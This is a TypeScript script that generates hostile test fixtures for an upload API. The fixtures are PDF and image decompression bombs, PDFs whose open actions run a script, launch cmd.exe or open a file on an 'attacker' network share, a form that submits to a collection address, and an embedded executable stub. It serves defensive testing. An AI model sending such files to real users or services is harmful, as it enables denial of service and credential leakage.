// `node --import tsx scripts/make-hostile-corpus.ts`: writes the hostile files of issue #12 (and a
// clean statement beside them) into apps/api/test/fixtures/hostile/, where the API tests and
// `npm run bench:uploads` read them. Everything is made here, nothing downloaded; the output is
// deterministic (fixed dates and contents) so a rerun changes nothing in git.
//
// Adding a file: push a `{ name, about, make }` entry to CORPUS (a section per upload kind).
// Files over 256 KB are written gzipped (`<name>.gz`; `readHostile` in the tests unzips them),
// so the folder stays well under 1 MB.
import { mkdirSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { crc32, createDeflate, deflateSync, gzipSync } from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import PDFKit from 'pdfkit';
import sharp from 'sharp';

export const HOSTILE_DIR = path.resolve(import.meta.dirname, '../apps/api/test/fixtures/hostile');
const GZIP_OVER = 256 * 1024;

export interface CorpusFile {
  name: string;
  /** What it is and what it tries (written to the folder's index). */
  about: string;
  make: () => Buffer | Promise<Buffer>;
}

// ---- PDFs ---------------------------------------------------------------------------------

/** A PDF of numbered objects with a correct cross-reference table (objects start at 1). */
function pdf(objects: (string | Buffer)[], trailer = '/Root 1 0 R', extra: Buffer[] = []): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    const body = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof object === 'string' ? Buffer.from(object, 'latin1') : object,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(body);
    length += body.length;
  });
  for (const b of extra) {
    parts.push(b);
    length += b.length;
  }
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
  ].join('\n');
  parts.push(
    Buffer.from(
      `${xref}\ntrailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>';
const TEXT = 'BT /F1 12 Tf 72 720 Td (Statement of account) Tj ET';
const CONTENT = `<< /Length ${TEXT.length} >>\nstream\n${TEXT}\nendstream`;
const ALERT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** An object stream (ISO 32000 §7.5.7) holding `objects` as numbers `first`, `first + 1`, … */
function objectStream(first: number, objects: string[], filter?: 'ASCIIHexDecode'): Buffer {
  let offset = 0;
  const index: string[] = [];
  for (const [i, o] of objects.entries()) {
    index.push(`${first + i} ${offset}`);
    offset += o.length + 1;
  }
  const head = `${index.join(' ')}\n`;
  let data = Buffer.from(head + objects.join('\n'), 'latin1');
  if (filter === 'ASCIIHexDecode') data = Buffer.from(`${data.toString('hex')}>`, 'latin1');
  const dict = `<< /Type /ObjStm /N ${objects.length} /First ${head.length}${filter ? ` /Filter /${filter}` : ''} /Length ${data.length} >>`;
  return Buffer.concat([Buffer.from(`${dict}\nstream\n`, 'latin1'), data, Buffer.from('\nendstream')]);
}

/** `size` bytes of `char`, deflated at level 9 a megabyte at a time (never all in memory). */
async function deflateRepeated(char: string, size: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (c: Buffer) => out.push(c));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const chunk = Buffer.alloc(1024 * 1024, char);
  for (let left = size; left > 0; left -= chunk.length) {
    if (!deflate.write(left >= chunk.length ? chunk : chunk.subarray(0, left)))
      await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat(out);
}

/** A bank statement as a generator makes one: text (a subset CJK font too), a logo, a table, an outline. */
async function statement(): Promise<Buffer> {
  const require = createRequire(import.meta.url);
  const fontDir = path.join(path.dirname(require.resolve('@embedpdf/fonts-sc')), '..', 'fonts');
  const logo = await sharp({ create: { width: 96, height: 48, channels: 4, background: '#0b4f8a' } })
    .composite([
      {
        input: Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="96" height="48"><circle cx="24" cy="24" r="16" fill="#fff"/></svg>',
        ),
      },
    ])
    .png()
    .toBuffer();
  const photo = await sharp({ create: { width: 160, height: 90, channels: 3, background: '#c8d6e5' } })
    .jpeg({ quality: 70 })
    .toBuffer();
  // pdfkit tags subset fonts with Math.random letters: a fixed sequence keeps the file the same
  const random = Math.random;
  let seed = 12;
  Math.random = () => {
    seed = (seed * 16807) % 2147483647;
    return seed / 2147483647;
  };
  const doc = new PDFKit({
    size: 'A4',
    margin: 50,
    info: {
      Title: 'Statement of account',
      Author: 'Harbour Peak Bank',
      CreationDate: new Date(Date.UTC(2026, 0, 31)),
    },
  });
  const chunks: Buffer[] = [];
  doc.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise<void>((resolve) => doc.on('end', () => resolve()));
  doc.registerFont('cjk', path.join(fontDir, 'NotoSansHans-Regular.otf'));
  doc.image(logo, 50, 40, { width: 96 });
  doc.image(photo, 400, 40, { width: 120 });
  doc.fontSize(18).text('Statement of account', 50, 110);
  doc.font('cjk').fontSize(11).text('结单 · 陈大文 · 香港湾仔告士打道 1 号', 50, 140);
  doc.font('Helvetica').fontSize(10);
  doc.text('Period: 1 January 2026 to 31 January 2026', 50, 165);
  doc.lineWidth(0.5).strokeColor('#444');
  for (let row = 0; row < 12; row++) {
    const y = 200 + row * 22;
    doc.moveTo(50, y).lineTo(545, y).stroke();
    doc.text(`2026-01-${String(row + 2).padStart(2, '0')}`, 55, y + 6);
    doc.text(row % 2 ? 'Card payment' : 'Transfer in', 160, y + 6);
    doc.text(`${(row * 137.5).toFixed(2)} HKD`, 440, y + 6);
  }
  doc.rect(50, 200, 495, 264).stroke();
  doc.outline.addItem('Statement');
  doc.addPage();
  doc.text('Page 2: notes', 50, 60);
  doc.outline.addItem('Notes');
  doc.end();
  await done;
  Math.random = random;
  return Buffer.concat(chunks);
}

/** The same statement with its objects packed into compressed object streams (PDF 1.5+). */
async function statementInObjectStreams(): Promise<Buffer> {
  const doc = await PDFDocument.load(await statement(), { updateMetadata: false });
  return Buffer.from(await doc.save({ useObjectStreams: true, addDefaultPage: false }));
}

/** A form-field-free page whose catalog runs a script: `extra` objects hold the script. */
function withOpenAction(target: string, extra: (string | Buffer)[] = []): Buffer {
  return pdf([`<< /Type /Catalog /Pages 2 0 R /OpenAction ${target} >>`, PAGES, PAGE, CONTENT, ...extra]);
}

const PDFS: CorpusFile[] = [
  {
    name: 'statement.pdf',
    about: 'clean: a bank statement (pdfkit: text, CJK subset font, PNG and JPEG images, lines, outline)',
    make: statement,
  },
  {
    name: 'statement-objstm.pdf',
    about: 'clean: the statement with its objects in compressed object streams and an xref stream',
    make: statementInObjectStreams,
  },
  {
    name: 'bomb-objstm.pdf',
    about: 'issue #12 item 1: a 41 KB file whose one Flate object stream inflates to 40 MB of the name /A',
    make: () => {
      const data = deflateSync(Buffer.alloc(40 * 1024 * 1024, '/A '), { level: 9 });
      const stream = Buffer.concat([
        Buffer.from(
          `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
        ),
        data,
        Buffer.from('\nendstream'),
      ]);
      return pdf([CATALOG, PAGES, PAGE, CONTENT, stream]);
    },
  },
  {
    name: 'bomb-content.pdf',
    about:
      'issue #22 finding 5: a 598 KB file whose page content stream (Flate) inflates to 600 MiB of spaces: every viewer that renders the page inflates it',
    make: async () => {
      const data = await deflateRepeated(' ', 600 * 1024 * 1024);
      const stream = Buffer.concat([
        Buffer.from(`<< /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
        data,
        Buffer.from('\nendstream'),
      ]);
      return pdf([CATALOG, PAGES, PAGE, stream]);
    },
  },
  {
    name: 'bomb-image-chain.pdf',
    about:
      'issue #22 finding 5: a 1×1 image whose stream, under the chain [/ASCIIHexDecode /FlateDecode], inflates to 600 MiB',
    make: async () => {
      const data = Buffer.from(
        `${(await deflateRepeated('\0', 600 * 1024 * 1024)).toString('hex')}>`,
        'latin1',
      );
      const image = Buffer.concat([
        Buffer.from(
          `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter [/ASCIIHexDecode /FlateDecode] /Length ${data.length} >>\nstream\n`,
        ),
        data,
        Buffer.from('\nendstream'),
      ]);
      const page =
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>';
      const draw = 'q 100 0 0 100 72 600 cm /Im1 Do Q';
      return pdf([CATALOG, PAGES, page, `<< /Length ${draw.length} >>\nstream\n${draw}\nendstream`, image]);
    },
  },
  {
    name: 'names-5.9mb.pdf',
    about:
      'issue #12 item 1: 5.9 MB uncompressed, two million names in a page resource (stalled the old scan 1.8 s)',
    make: () => {
      const names = Buffer.alloc(5_900_000, '/A ');
      return pdf([
        CATALOG,
        PAGES,
        Buffer.concat([
          Buffer.from(
            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /ProcSet [',
          ),
          names,
          Buffer.from('] >> >>'),
        ]),
        CONTENT,
      ]);
    },
  },
  {
    name: 'objstm-unfiltered.pdf',
    about: 'issue #12 item 2: an open-action script in an object stream with no filter',
    make: () => withOpenAction('6 0 R', [objectStream(6, [ALERT])]),
  },
  {
    name: 'objstm-asciihex.pdf',
    about:
      'issue #12 item 2: an open-action script in an /ASCIIHexDecode object stream (the old inflate failed and skipped it)',
    make: () => withOpenAction('6 0 R', [objectStream(6, [ALERT], 'ASCIIHexDecode')]),
  },
  {
    name: 'comment-stream.pdf',
    about: 'issue #12 item 2: the script object between a "% stream" and a "% endstream" comment',
    make: () =>
      pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', PAGES, PAGE, CONTENT], '/Root 1 0 R', [
        Buffer.from(`% stream\n5 0 obj\n${ALERT}\nendobj\n% endstream\n`),
      ]),
  },
  {
    name: 'uri.pdf',
    about: 'a link annotation whose action opens a web address',
    make: () =>
      pdf([
        CATALOG,
        PAGES,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>',
        CONTENT,
        '<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (https://example.com/login) >> >>',
      ]),
  },
  {
    name: 'launch.pdf',
    about: 'an open action that launches a program',
    make: () => withOpenAction('<< /S /Launch /F (cmd.exe) /NewWindow true >>'),
  },
  {
    name: 'gotor.pdf',
    about: 'an open action that opens another PDF file (remote go-to)',
    make: () => withOpenAction('<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
  },
  {
    name: 'submitform.pdf',
    about: 'a form whose open action submits it to a web address',
    make: () =>
      pdf([
        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> /OpenAction 5 0 R >>',
        PAGES,
        PAGE,
        CONTENT,
        '<< /S /SubmitForm /F << /FS /URL /F (https://example.com/collect) >> >>',
      ]),
  },
  {
    name: 'richmedia.pdf',
    about: 'a RichMedia annotation (embedded Flash/video player)',
    make: () =>
      pdf([
        CATALOG,
        PAGES,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>',
        CONTENT,
        '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>',
      ]),
  },
  {
    name: 'embedded-file.pdf',
    about: 'an attached executable in the names tree',
    make: () => {
      const exe = 'MZ\x90\x00';
      return pdf([
        '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>',
        PAGES,
        PAGE,
        CONTENT,
        '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
        `<< /Type /EmbeddedFile /Length ${exe.length} >>\nstream\n${exe}\nendstream`,
      ]);
    },
  },
  {
    name: 'encrypted.pdf',
    about: 'password-protected (an /Encrypt dictionary in the trailer)',
    make: () =>
      pdf(
        [
          CATALOG,
          PAGES,
          PAGE,
          CONTENT,
          '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1028 /O <00> /U <00> >>',
        ],
        '/Root 1 0 R /Encrypt 5 0 R /ID [<01> <01>]',
      ),
  },
  {
    name: 'unknown-filter.pdf',
    about: 'the page content under a filter no reader knows (/LZXDecode)',
    make: () =>
      pdf([
        CATALOG,
        PAGES,
        PAGE,
        `<< /Length ${TEXT.length} /Filter /LZXDecode >>\nstream\n${TEXT}\nendstream`,
      ]),
  },
  {
    name: 'truncated.pdf',
    about: 'the clean statement cut in half (a download that stopped)',
    make: async () => {
      const whole = await statement();
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
  },
];

// ---- images -------------------------------------------------------------------------------

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.from(type, 'latin1');
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head, data])));
  return Buffer.concat([length, head, data, crc]);
}

/** An 8-bit greyscale PNG of `width`×`height` black pixels, written by hand (filter 0 rows). */
function blackPng(width: number, height: number, rows = height): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc((width + 1) * rows); // a filter byte and `width` zeros per row
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A small real JPEG whose frame header (SOF0) is rewritten to claim `width`×`height`. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 64, height: 64, channels: 3, background: '#888' } })
      .jpeg({ quality: 50, mozjpeg: false })
      .toBuffer(),
  );
  for (let i = 2; i < jpeg.length - 9; ) {
    if (jpeg[i] !== 0xff) throw new Error('unexpected JPEG layout');
    const marker = jpeg[i + 1]!;
    if (marker === 0xc0) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
    i += 2 + jpeg.readUInt16BE(i + 2);
  }
  throw new Error('no SOF0 marker');
}

const IMAGES: CorpusFile[] = [
  {
    name: 'png-4800.png',
    about: 'issue #12 item 3: a real 4800×4800 PNG (23 megapixels in 145 KB or less): seconds of decoding',
    make: () =>
      sharp({ create: { width: 4800, height: 4800, channels: 3, background: '#fdfdfd' } })
        .png({ compressionLevel: 9 })
        .toBuffer(),
  },
  {
    name: 'png-bomb.png',
    about:
      'a decompression bomb: a PNG declaring 20000×20000 (400 megapixels, 400 MB decoded) with 64 rows of data',
    make: () => blackPng(20_000, 20_000, 64),
  },
  {
    name: 'png-49mp.png',
    about:
      'just under the 50-megapixel cap: 7000×7000 black, 48 KB, 49 MB once decoded (costly, not refused by its header)',
    make: () => blackPng(7000, 7000),
  },
  {
    name: 'jpeg-huge.jpg',
    about: 'a JPEG whose frame header claims 65000×65000 (4.2 gigapixels) over 64×64 of data',
    make: () => jpegClaiming(65_000, 65_000),
  },
];

export const CORPUS: { dir: string; files: CorpusFile[] }[] = [
  { dir: 'pdf', files: PDFS },
  { dir: 'image', files: IMAGES },
];

async function main() {
  const lines = ['# Hostile files (made by scripts/make-hostile-corpus.ts; do not edit by hand)', ''];
  for (const { dir, files } of CORPUS) {
    const out = path.join(HOSTILE_DIR, dir);
    rmSync(out, { recursive: true, force: true });
    mkdirSync(out, { recursive: true });
    lines.push(`## ${dir}/`, '');
    for (const file of files) {
      const bytes = await file.make();
      const big = bytes.length > GZIP_OVER;
      const name = big ? `${file.name}.gz` : file.name;
      writeFileSync(path.join(out, name), big ? gzipSync(bytes, { level: 9 }) : bytes);
      lines.push(
        `- \`${name}\` (${bytes.length.toLocaleString('en')} bytes${big ? ' once unzipped' : ''}): ${file.about}`,
      );
    }
    lines.push('');
  }
  writeFileSync(path.join(HOSTILE_DIR, 'README.md'), lines.join('\n'));
  let total = 0;
  for (const { dir } of CORPUS)
    for (const name of readdirSync(path.join(HOSTILE_DIR, dir)))
      total += statSync(path.join(HOSTILE_DIR, dir, name)).size;
  console.log(`wrote ${HOSTILE_DIR} (${(total / 1024).toFixed(0)} KB)`);
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) await main();
